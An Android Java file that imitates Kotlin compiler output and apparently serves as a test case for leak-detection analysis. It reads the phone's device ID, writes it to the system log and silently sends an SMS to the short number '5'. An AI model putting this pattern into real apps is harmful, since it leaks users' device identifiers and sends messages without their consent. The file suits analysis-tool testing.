package app;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

/** What the compiler of Kotlin writes: data classes, companions, lazy values, singletons, a coroutine's states. */
public class Main extends Activity {
    static final class User {
        private final String name;
        private final String id;

        User(String name, String id) {
            Checks.notNull(name, "name");
            Checks.notNull(id, "id");
            this.name = name;
            this.id = id;
        }

        String component1() {
            return name;
        }

        String component2() {
            return id;
        }

        static User copy$default(User user, String name, String id, int mask, Object unused) {
            if ((mask & 1) != 0) {
                name = user.name;
            }
            if ((mask & 2) != 0) {
                id = user.id;
            }
            return new User(name, id);
        }
    }

    static final class Checks {
        static void notNull(Object value, String what) {
            if (value == null) {
                throw new NullPointerException(what);
            }
        }
    }

    interface Function0 {
        Object invoke();
    }

    static final class Lazy {
        private Function0 initializer;
        private Object value = Registry.INSTANCE;

        Lazy(Function0 initializer) {
            this.initializer = initializer;
        }

        Object getValue() {
            if (value == Registry.INSTANCE) {
                value = initializer.invoke();
                initializer = null;
            }
            return value;
        }
    }

    static final class Registry {
        static final Registry INSTANCE = new Registry();
        private User user;

        private Registry() {
        }

        void setUser(User user) {
            this.user = user;
        }

        User getUser() {
            return user;
        }
    }

    abstract static class Continuation {
        int label;
        Object result;

        abstract Object invokeSuspend(Object result);
    }

    final class Work extends Continuation {
        private User held;

        @Override
        Object invokeSuspend(Object result) {
            switch (label) {
                case 0:
                    held = Registry.INSTANCE.getUser();
                    label = 1;
                    return this;
                case 1:
                    Log.i("tag", held.component2());
                    SmsManager.getDefault().sendTextMessage("5", null, held.component1(), null, null);
                    return null;
                default:
                    throw new IllegalStateException("call to 'resume' before 'invoke' with coroutine");
            }
        }
    }

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        Lazy id = new Lazy(new Function0() {
            @Override
            public Object invoke() {
                return ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
            }
        });
        User user = new User("none", (String) id.getValue());
        Registry.INSTANCE.setUser(User.copy$default(user, "someone", null, 2, null));
        Work work = new Work();
        while (work.invokeSuspend(null) != null) {
            work.result = null;
        }
    }
}
